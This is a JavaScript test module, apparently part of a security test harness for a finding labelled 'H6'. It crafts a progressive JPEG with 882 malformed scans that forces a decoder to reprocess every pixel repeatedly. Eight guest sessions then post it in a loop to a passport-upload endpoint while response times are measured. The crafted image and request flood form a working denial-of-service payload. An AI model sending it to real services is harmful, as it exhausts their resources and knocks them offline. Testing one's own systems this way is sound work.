import sharp from 'sharp'

const SENDERS = 8
const SIDE = 5_000
const UPLOAD = '/api/v1/client/upload_passport'

/**
 * A white progressive JPEG of 25 megapixels with 882 further scans, forty bytes each, and behind them rubbish up to 0.9 MB: a
 * decoder goes over all its pixels for each of them.
 */
async function endless() {
  const white = await sharp({ create: { width: SIDE, height: SIDE, channels: 3, background: '#fff' } })
    .jpeg({ progressive: true })
    .toBuffer()
  const start = white.indexOf(Buffer.from([0xff, 0xda, 0, 8, 1, 1]))
  const end = white.indexOf(Buffer.from([0xff, 0xc4]), start)
  const scans = Array.from({ length: 882 }, (_, index) => {
    const scan = Buffer.from(white.subarray(start, end))
    const coefficient = 1 + (index % 63)
    const bit = 13 - Math.floor(index / 63)
    scan.set([coefficient, coefficient, ((bit === 13 ? 0 : bit + 1) << 4) | bit], 7)
    return scan
  })
  return Buffer.concat([white.subarray(0, start), ...scans, Buffer.from([0xff, 0xd9]), Buffer.alloc(700_000)])
}

/** A few who send such pictures one after the other. */
export const row = {
  finding: 'H6',
  what: `${SENDERS} who send progressive pictures of 900 scans and 0.8 MB, one after the other`,
  async prepare(target) {
    const bytes = await endless()
    const guests = []
    for (let number = 0; number < SENDERS; number += 1) guests.push(await target.guest(number))
    return {
      body: new URLSearchParams({ base64_passport_image: bytes.toString('base64') }).toString(),
      tokens: guests.map(({ token }) => token),
    }
  },
  async attack(target, { body, tokens }) {
    let answered = 0
    let longestMs = 0
    await Promise.all(
      tokens.map(async (token) => {
        const headers = {
          authorization: token,
          'content-type': 'application/x-www-form-urlencoded',
          connection: 'keep-alive',
        }
        while (!target.signal.aborted) {
          const { status, ms } = await target.call(UPLOAD, { method: 'POST', headers, body })
          if (status === 0) return
          answered += 1
          longestMs = Math.max(longestMs, ms)
        }
      }),
    )
    return [
      { measure: 'pictures answered', found: String(answered), bar: 'some', isMet: answered > 0 },
      {
        measure: 'the longest answer',
        found: `${longestMs.toFixed(0)} ms`,
        bar: '2000 ms',
        isMet: longestMs <= 2_000,
      },
    ]
  },
}
